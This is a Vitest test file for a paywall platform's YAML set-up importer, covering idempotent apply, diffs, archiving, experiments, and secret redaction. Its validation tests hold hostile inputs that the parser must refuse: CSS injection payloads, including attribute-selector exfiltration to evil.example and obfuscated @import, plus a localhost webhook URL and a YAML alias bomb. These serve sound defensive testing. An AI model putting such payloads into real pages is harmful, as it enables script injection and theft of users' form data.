import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { startTestServer, type TestServer } from "../../../test/kit.ts";
import { sellOnce } from "../../../test/sale.ts";
import { applyYaml, idsOf, setupOf } from "../../../test/setup.ts";
import { sql } from "../../platform/database/index.ts";
import { applySetup, parseSetup, planSetup, renderDiff } from "./index.ts";

const FILE = `
tenants:
  - slug: north
    name: North
    domains: [{ host: pay.north.example, verified: true }]
    products: [{ sku: pro, title: Pro }]
    processors: [{ key: box, kind: sandbox }]
    webhooks: [{ key: main, url: "https://hooks.north.example/in", secret: a-secret-of-16-characters }]
    paywalls:
      - key: app
        name: North Pro
        product: pro
        domain: pay.north.example
        trial: { mode: opens, payload: 2 }
        targeting: { countries: [TIER1, DE] }
        purchaseOptions:
          - { key: monthly, interval: month, amount: 9.90, label: Monthly, local: [{ currency: JPY, amount: 1480 }] }
          - { key: yearly, interval: year, amount: 79 }
        layout:
          - { type: heading, text: Hello }
          - { type: features_list, items: [Fast, { name: Small, desc: "1 MB" }] }
          - { type: price_grid, options: [yearly, monthly], popular: yearly }
          - { type: offer_banner, offer: summer }
          - { type: cta_button, option: yearly }
        locales:
          de: { options: { monthly: { label: Monatlich } }, layout: [{ type: cta_button, option: monthly }] }
        offers: [{ key: summer, discountPercent: 25, option: yearly, durationMinutes: 60 }]
        experiments:
          - key: cheaper
            state: running
            variants:
              - { key: control, weight: 50 }
              - { key: b, weight: 50, options: [{ key: monthly-b, replaces: monthly, amount: 7.90 }] }
`;

describe("applying a set-up", () => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startTestServer();
    await applyYaml(server, FILE);
  });
  afterAll(() => server[Symbol.asyncDispose]());
  const plan = (yaml: string) => planSetup(server.deps.db, server.deps, setupOf(yaml));
  const versions = async () =>
    (await server.deps.db.one<{ n: number }>(sql`select count(*) n from paywall_versions`)).n;

  test("a second run of the same file finds nothing to do and publishes nothing", async () => {
    const before = await versions();
    expect(await plan(FILE)).toEqual([]);
    expect(await applyYaml(server, FILE)).toEqual([]);
    expect(await versions()).toBe(before);
    expect(renderDiff([])).toBe("Nothing to change.");
  });

  test("what is stored names options by num and offers by id", async () => {
    const ids = await idsOf(server, "north");
    const { body } = await server.deps.db.one<{ body: unknown }>(sql`
      select v.body from paywalls p join paywall_versions v on v.id = p.live_version_id where p.key = 'app'`);
    const [monthly, yearly] = [String(ids.option("monthly").num), String(ids.option("yearly").num)];
    expect(body).toEqual({
      layout: {
        type: "modal",
        blocks: [
          { type: "heading", text: "Hello" },
          {
            type: "features_list",
            items: [
              { id: "feature-1", name: "Fast" },
              { id: "feature-2", name: "Small", desc: "1 MB" },
            ],
          },
          { type: "price_grid", priceIds: [yearly, monthly], popular_price_id: yearly },
          { type: "offer_banner", offer_id: ids.offer("summer").id },
          { type: "cta_button", action: "checkout", priceId: yearly },
        ],
      },
      locales: {
        de: {
          prices: { [monthly]: { label: "Monatlich" } },
          layout: { type: "modal", blocks: [{ type: "cta_button", action: "checkout", priceId: monthly }] },
        },
      },
    });
  });

  test("amounts are stored in minor units of their own currency", async () => {
    const row = await server.deps.db.one(sql`
      select amount_minor "amountMinor", currency, local from purchase_options where key = 'monthly'`);
    expect(row).toEqual({
      amountMinor: 990,
      currency: "USD",
      local: [{ currency: "JPY", amountMinor: 1480 }],
    });
  });

  test("a changed text publishes one version; a changed setting or offer none", async () => {
    const before = await versions();
    const [content] = await applyYaml(server, FILE.replace("text: Hello", "text: Hi"));
    expect(content).toMatchObject({
      kind: "content",
      action: "update",
      fields: [{ path: "layout.blocks.0.text", before: "Hello", after: "Hi" }],
    });
    expect(await versions()).toBe(before + 1);
    const later = FILE.replace("text: Hello", "text: Hi")
      .replace("payload: 2", "payload: 3")
      .replace("25", "30");
    expect((await applyYaml(server, later)).map((it) => [it.kind, it.action])).toEqual([
      ["paywall", "update"],
      ["offer", "update"],
    ]);
    expect(await versions()).toBe(before + 1);
    await applyYaml(server, FILE);
  });

  test("the plan changes nothing, and says what applying it does", async () => {
    const changed = FILE.replace("name: North\n", "name: North Ltd\n").replace("amount: 79 ", "amount: 89 ");
    const planned = await plan(changed);
    expect(planned).toEqual(await plan(changed));
    expect(renderDiff(planned)).toBe(
      [
        "north",
        "  ~ tenant north  changed",
        "      name: North → North Ltd",
        "  ~ option yearly  changed",
        "      amount: 79.00 → 89.00",
        "",
        "2 to update.",
      ].join("\n"),
    );
    const applied = await server.deps.db.transaction((tx) => applySetup(tx, server.deps, setupOf(changed)));
    expect(applied).toEqual(planned);
    await applyYaml(server, FILE);
  });

  test("a sold option's new price makes a successor; texts change in place", async () => {
    const before = await idsOf(server, "north");
    await sellOnce(server, { option: before.option("monthly").id });
    const changed = FILE.replace("9.90", "12.90").replace("label: Monthly", "label: Every month");
    const changes = await applyYaml(server, changed);
    expect(changes.map((it) => [it.kind, it.key, it.action])).toEqual([
      ["option", "monthly", "replace"],
      // The variant's price inherits the label that it does not name itself.
      ["option", "monthly-b", "update"],
    ]);
    const after = await idsOf(server, "north");
    expect(after.option("monthly").num).not.toBe(before.option("monthly").num);
    expect(await plan(changed), "the published layout follows without a new version").toEqual([]);

    await applyYaml(server, changed.replace("Every month", "By the month"));
    expect((await idsOf(server, "north")).option("monthly").num).toBe(after.option("monthly").num);
    await applyYaml(server, FILE);
  });

  test("what the file does not list any more is archived, and comes back when it is listed again", async () => {
    const smaller = FILE.replace(/ {10}- \{ type: offer_banner.*\n/, "").replace(/ {8}offers:.*\n/, "");
    const changes = await applyYaml(server, smaller);
    expect(changes.map((it) => [it.kind, it.action])).toEqual([
      ["content", "update"],
      ["offer", "archive"],
    ]);
    expect(renderDiff(changes)).toContain("- offer summer  not in the file any more");
    expect(await plan(smaller)).toEqual([]);
    const { id } = (await idsOf(server, "north")).offer("summer");
    await applyYaml(server, FILE);
    expect((await idsOf(server, "north")).offer("summer").id).toBe(id);
  });

  test("a whole paywall leaves and returns under the same number", async () => {
    const { num } = (await idsOf(server, "north")).paywall("app");
    const bare = FILE.slice(0, FILE.indexOf("    paywalls:"));
    await applyYaml(server, bare);
    expect((await server.get(`/api/v1/paywall/${num}/bootstrap`)).status).toBe(404);
    expect(await plan(bare)).toEqual([]);
    await applyYaml(server, FILE);
    expect(await plan(FILE)).toEqual([]);
    expect((await server.get(`/api/v1/paywall/${num}/bootstrap`)).status).toBe(200);
  });

  test("one experiment stops before another starts", async () => {
    const other = FILE.replace("key: cheaper", "key: dearer").replaceAll("monthly-b", "monthly-c");
    await applyYaml(server, other);
    const states = await server.deps.db.query(sql`select key, state from experiments order by key`);
    expect(states).toEqual([
      { key: "cheaper", state: "archived" },
      { key: "dearer", state: "running" },
    ]);
    await applyYaml(server, FILE);
    expect(await plan(FILE)).toEqual([]);
  });

  test("tenants that the file does not name are left alone", async () => {
    const changes = await applyYaml(server, "tenants: [{ slug: south, name: South }]");
    expect(changes.map((it) => it.tenant)).toEqual(["south"]);
    expect(await plan(FILE)).toEqual([]);
  });

  test("another tenant's domain is refused and nothing is changed", async () => {
    const thief =
      "tenants: [{ slug: thief, name: T, domains: [{ host: pay.north.example, verified: true }] }]";
    await expect(applyYaml(server, thief)).rejects.toMatchObject({ code: "domain_taken" });
    expect(await server.deps.db.query(sql`select id from tenants where slug = 'thief'`)).toEqual([]);
  });

  test("a refusal late in the file undoes everything before it", async () => {
    const bad = `tenants: [{ slug: late, name: L, webhooks: [{ key: h, url: "http://127.0.0.1:9/x" }] }]`;
    await expect(applyYaml(server, bad)).rejects.toMatchObject({ code: "webhook_url_refused" });
    expect(await server.deps.db.query(sql`select id from tenants where slug = 'late'`)).toEqual([]);
  });

  test("a secret is compared but never shown", async () => {
    const changes = await plan(FILE.replace("a-secret-of-16-characters", "another-secret-of-theirs"));
    const text = renderDiff(changes);
    expect(text).toContain("secret: (secret) → (secret)");
    expect(text).not.toContain("another-secret");
    const quiet = FILE.replace(", secret: a-secret-of-16-characters", "");
    expect(await plan(quiet), "leaving it out keeps it").toEqual([]);
  });

  test("sign-in providers are kept sealed, compared, never shown, and switched off when the file drops them", async () => {
    const withProviders = (lines: string) =>
      FILE.replace("    webhooks:", `    authProviders:\n${lines}\n    webhooks:`).replaceAll("\n\n", "\n");
    const google = `      - { provider: google, clientId: north-web, clientSecret: "the-first-secret" }`;
    await expect(
      applyYaml(server, withProviders(`      - { provider: github, clientId: north }`)),
    ).rejects.toMatchObject({
      code: "secret_required",
      status: 422,
    });
    const created = await applyYaml(server, withProviders(google));
    expect(created.map(({ kind, key, action }) => [kind, key, action])).toEqual([
      ["authProvider", "google", "create"],
    ]);
    expect(await plan(withProviders(google))).toEqual([]);
    // A file without the secret leaves it alone.
    expect(await plan(withProviders(`      - { provider: google, clientId: north-web }`))).toEqual([]);
    const stored = async () => JSON.stringify(await server.deps.db.query(sql`select * from auth_providers`));
    expect(await stored()).not.toContain("the-first-secret");
    const changed = await plan(withProviders(google.replace("first", "second")));
    expect(changed[0]?.fields.map((it) => it.path)).toEqual(["secret"]);
    expect(renderDiff(changed)).not.toMatch(/the-(first|second)-secret/);
    const dropped = await applyYaml(server, FILE);
    expect(dropped.map(({ key, action }) => [key, action])).toEqual([["google", "archive"]]);
    expect(JSON.parse(await stored())).toMatchObject([{ provider: "google", state: "disabled" }]);
    expect(await plan(FILE)).toEqual([]);
  });

  test("two runs at once end as one", async () => {
    const changed = FILE.replace("text: Hello", "text: Twice");
    const before = await versions();
    await Promise.all([applyYaml(server, changed), applyYaml(server, changed)]);
    expect(await versions()).toBe(before + 1);
    await applyYaml(server, FILE);
  });
});

describe("reading a set-up file", () => {
  const problemsOf = (yaml: string) => {
    const parsed = parseSetup(yaml);
    return parsed.ok ? [] : parsed.problems;
  };

  test("every problem comes with its line and column, in the file's order", () => {
    const bad = FILE.replace("sku: pro,", "skuu: pro,").replace("interval: year", "interval: yearly");
    const problems = problemsOf(bad);
    expect(problems[0]).toMatch(/^line 6, column 1[0-9]: tenants\[0\]\.products\[0\]\.sku: is required/);
    expect(problems.join("\n")).toMatch(
      /line 6, column \d+: tenants\[0\]\.products\[0\]\.skuu: .*did you mean "sku"/,
    );
    expect(problems.at(-1)).toMatch(
      /^line 18, column \d+: tenants\[0\]\.paywalls\[0\]\.purchaseOptions\[1\]\.interval: must be one of/,
    );
  });

  test("a name that leads nowhere is told where it is used", () => {
    expect(problemsOf(FILE.replace("popular: yearly", "popular: weekly"))[0]).toMatch(
      /^line 22, column \d+: .*popular: there is no purchase option "weekly"/,
    );
  });

  test("an amount with more digits than its currency has is refused", () => {
    expect(problemsOf(FILE.replace("1480", "14.80"))[0]).toMatch(
      /^line 17, .*local\[0\]\.amount: "14\.80?" is not an amount of JPY/,
    );
  });

  test("broken YAML, a repeated name and an alias bomb are problems, not crashes", () => {
    expect(problemsOf("tenants: [")[0]).toMatch(/^line 1, column/);
    expect(problemsOf("tenants: []\ntenants: []")[0]).toMatch(/^line 2, column 1/);
    const bomb = [
      "a: &a [x, x, x, x, x, x, x, x, x]",
      ...[..."bcdefgh"].map((c, i) => `${c}: &${c} [${Array(9).fill(`*${"abcdefgh"[i]}`).join(",")}]`),
    ];
    expect(problemsOf(bomb.join("\n"))).toHaveLength(1);
    expect(problemsOf("")).not.toEqual([]);
    expect(problemsOf("42")).not.toEqual([]);
  });

  test("a sign-in provider needs what belongs to it: an id, Apple's names and key, and one entry each", () => {
    const problemsOf = (...lines: string[]) => {
      const parsed = parseSetup(
        `tenants:\n  - slug: a\n    name: A\n    authProviders:\n${lines.map((it) => `      - ${it}`).join("\n")}`,
      );
      return parsed.ok ? [] : parsed.problems.map((it) => it.replace(/^line \d+, column \d+: /, ""));
    };
    expect(problemsOf("{ provider: google, clientId: a }", "{ provider: facebook, clientId: b }")).toEqual(
      [],
    );
    expect(problemsOf("{ provider: google, clientId: a }", "{ provider: google, clientId: b }")[0]).toMatch(
      /another sign-in provider is already called "google"/,
    );
    expect(problemsOf("{ provider: myspace, clientId: a }")).toHaveLength(1);
    expect(problemsOf("{ provider: google }")[0]).toContain("clientId");
    expect(problemsOf("{ provider: google, clientId: a, baseUrl: https://x.example }")[0]).toContain(
      "baseUrl",
    );
    const apple = problemsOf(
      "{ provider: apple, clientId: a, teamId: short, keyId: ABCDE12345, privateKey: none }",
    );
    expect(apple.join()).toMatch(/teamId: must have ten.*privateKey: must be the text of the .p8 file/);
  });

  test("style sheets that load or run something are refused", () => {
    const css = (text: string) =>
      problemsOf(
        FILE.replace("        trial:", `        customCss: ${JSON.stringify(text)}\n        trial:`),
      );
    for (const bad of [
      "@import url(x)",
      "</style><script>",
      "a{background:url(javascript:1)}",
      "a{width:expression(1)}",
      'input[value^="a"]{background:URL (//evil.example/a)}',
      'a{background:image-set("//evil.example/a" 1x)}',
      "a{--x:u\\72l(//evil.example)}",
      "a{color:red}/**/@im/**/port '//evil.example'",
      "@font-face{font-family:x;src:local(x)}",
      ":host{position:absolute}",
    ]) {
      expect(css(bad)[0], bad).toMatch(/customCss: must not contain/);
    }
    expect(css(".a { color: red }")).toEqual([]);
    expect(css(`.card::after { content: "${"é".repeat(2600)}" }`)[0]).toMatch(/larger than 5120 bytes/);
  });

  test("JSON is read as well", () => {
    expect(parseSetup(JSON.stringify({ tenants: [{ slug: "j", name: "J" }] }))).toMatchObject({ ok: true });
  });
});
